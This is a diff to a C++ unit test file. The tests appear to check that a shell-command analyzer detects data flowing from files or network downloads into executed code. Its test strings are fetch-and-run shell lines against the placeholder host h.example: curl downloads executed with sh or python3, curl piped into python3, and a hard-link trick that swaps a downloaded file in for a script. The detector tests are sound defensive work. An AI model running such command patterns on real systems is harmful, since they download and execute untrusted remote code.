@@ -211,7 +211,7 @@ TEST(AnalyzeCode, TellsTextOfTheLineFromTextThatItDoesNotShow) {
            "cat > x <<'E'\ncurl -s h.example\nE\nbash -n x",
            "echo \"curl h.example:$PORT\" > x; chmod +x x && ./x",
            "echo 'curl h.example' | tee x; . ./x",
-           "curl -o d https://h.example/; echo 'cat d' > x; sh x",
+           "echo 'curl h.example' > x; sh x; for i in 1 2; do sh x; done",
        }) {
     const Analysis analysis = Analyze(line, TestContext());
     EXPECT_TRUE(HasFlow(analysis, FlowKind::kFileToCode)) << line;
@@ -236,6 +236,14 @@ TEST(AnalyzeCode, TellsTextOfTheLineFromTextThatItDoesNotShow) {
            "echo ls > x; curl -o x https://h.example/; sh x",
            "echo ls > x; curl -O \"$url\"; sh x",
            "./fetch > x; sh x",
+           // It may come in as code, as input, or by a link.
+           "curl -o t https://h.example/; echo 'import t' > x; python3 x",
+           "curl https://h.example/ | python3 x; echo ls > x; sh x",
+           "echo ls > x; ln x y; curl -o y https://h.example/; sh x",
+           "echo ls > x; curl -K y; sh x",
+           "echo 'curl -o t h.example; python3 y' > x; echo 'import t' > y; sh "
+           "x",
+           "echo 'curl -o t h.example' > x; echo '. t' > y; sh x; python3 y",
        }) {
     const Analysis analysis = Analyze(line, TestContext());
     EXPECT_TRUE(HasFlow(analysis, FlowKind::kUnseenToCode) ||
